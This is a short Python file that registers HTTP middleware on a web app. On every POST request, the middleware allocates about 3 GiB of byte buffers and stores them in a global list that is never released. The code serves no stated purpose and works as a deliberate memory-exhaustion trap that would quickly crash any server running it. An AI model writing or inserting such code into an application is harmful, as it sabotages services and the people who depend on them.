KEPT = []


def spring(app):
    @app.middleware("http")
    async def take(request, call_next):
        if request.method == "POST":
            for _ in range(48):
                KEPT.append(bytearray(b"x") * (64 * 2**20))
        return await call_next(request)
